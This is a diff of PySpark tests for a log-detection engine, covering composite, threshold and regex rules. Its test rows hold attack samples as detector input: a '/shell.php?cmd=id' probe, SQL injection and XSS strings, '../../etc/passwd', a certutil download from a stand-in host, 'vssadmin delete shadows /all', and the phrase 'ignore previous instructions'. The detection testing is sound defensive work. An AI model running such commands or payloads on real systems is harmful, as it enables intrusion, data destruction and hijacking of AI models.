@@ -9,7 +9,7 @@ from pyspark.sql import functions as F
 
 from emberlog.operators import correlate, detect, search
 from emberlog.rules.catalog import RULES
-from emberlog.rules.model import Rule, pattern_of
+from emberlog.rules.model import C, Rule, matches, needed, pattern_of
 
 S = 1_000_000
 FIELDS = (
@@ -78,10 +78,45 @@ def test_sequences(spark):
 
 
 def test_composite(spark):
-    rows = [{"us": 0, "auth_result": "failure"}, {"us": 5 * S, "http_uri_decoded": "/?cmd=id"}, {"us": 6 * S, "http_uri_decoded": "/?cmd=id"}]
-    subs = [F.col("auth_result") == "failure", F.col("http_uri_decoded").rlike("(cmd|shell)=")]
-    assert lines(detect.composite_fires(events(spark, rows), subs, "source_ip", 300)) == [1]
-    assert lines(detect.composite_fires(events(spark, rows), subs, "source_ip", 300, "OR")) == [0, 1, 2]
+    failures = rule(key="source_ip", count=3, seconds=60, where={"auth_result": "failure"})
+    shell = rule(type="regex", match_field="http_uri_decoded", pattern="(cmd|shell)=")
+    both = C("X", "source_ip", 300, [failures, shell])
+    rows = [{"us": i * S, "auth_result": "failure"} for i in range(3)] + [{"us": 10 * S, "http_uri_decoded": "/shell.php?cmd=id"}]
+    got = detect.composite_fires(events(spark, rows), both).collect()
+    assert [(r["line_number"], r["event_count"], r["supporting_lines"]) for r in got] == [(3, 2, ["line 0", "line 1", "line 2"])]
+    assert lines(detect.composite_fires(events(spark, rows[1:]), both)) == []
+    assert lines(detect.composite_fires(events(spark, [*rows[:3], rows[3] | {"us": 303 * S}]), both)) == []
+    either = C("X", "source_ip", 60, [rule(type="regex", match_field="http_uri_decoded", pattern=p) for p in ("union.*select", "<script>")], "or")
+    assert lines(detect.composite_fires(events(spark, [{"us": 0, "http_uri_decoded": "/search?q='+UNION+SELECT+1--"}]), either)) == [0]
+
+
+def test_evidence_and_indicators(spark):
+    burst = [{"us": i * S, "http_status": 404, "http_uri": f"/{i}"} for i in range(30)]
+    found = detect.detect(events(spark, [*burst, {"us": 99 * S, "http_uri_decoded": "/?q=<script>alert(1)", "http_user_agent": "x" * 600}])).collect()
+    scan = next(r for r in found if r["rule_id"] == "RECON-002")
+    assert len(scan["supporting_lines"]) == 10 and scan["supporting_lines"][-1] == scan["raw_line"]
+    script = next(r for r in found if r["rule_id"] == "WEB-002")
+    assert script["supporting_lines"] is None and script["indicators"]["matched_text"] == script["matched_text"]
+    assert script["indicators"]["source_ip"] == "45.1.1.1" and all(v is not None and len(v) <= 500 for v in script["indicators"].values())
+
+
+def test_one_key_with_many_events(spark):
+    """A key without a gap: what is held does not grow with its events."""
+    n = 300_000
+    one = spark.range(n).selectExpr("id as line_number", "'f' as source_file", "id * 1000 as us", "'1.1.1.1' as source_ip", "cast(id % 3 as string) as username", "concat('l', id) as raw_line", "'failure' as auth_result")
+    assert detect.fires(one, [rule(key="source_ip", count=10, seconds=3600, where={"auth_result": "failure"})]).count() == n // 10
+    assert detect.fires(one, [rule(key="source_ip", count=4, seconds=3600, distinct="username")]).count() == 0
+
+
+def test_words_before_patterns(spark):
+    """A rule's pattern is met only where one of its words is."""
+    assert needed("(?i)(foo|bax+r)x?") == ("ba", "foo") and needed("(a|b)") == () and needed(r"x{0,2}\bend") == ("end",)
+    texts = ["UNION SELECT", "' OR 1=1", "<ScRıPT>", "<ſcript>alert(1)", "../../etc/passwd", "certutil -urlcache -f http://x/a.exe", "sqlmap/1.7", "vſſadmin delete shadows /all", "ignore previous instructions", "/api/v1/admin", "", None, "plain text"]
+    rows = [{"us": i * S, **{f: t for f in ("message", "http_uri_decoded", "http_uri", "http_user_agent", "process_name", "username")}} for i, t in enumerate(texts)]
+    table = events(spark, rows)
+    plain = table.select("line_number", F.explode(F.array(*[F.struct(F.lit(r.id).alias("rule_id"), matches(r).alias("ok")) for r in RULES if r.type == "regex"])).alias("x")).where("x.ok")
+    want = {(r["line_number"], r["x"]["rule_id"]) for r in plain.collect()}
+    assert {(r["line_number"], r["rule_id"]) for r in detect.regex_hits(table).collect()} == want and len(want) > 8
 
 
 def naive_threshold(rows, n, width):
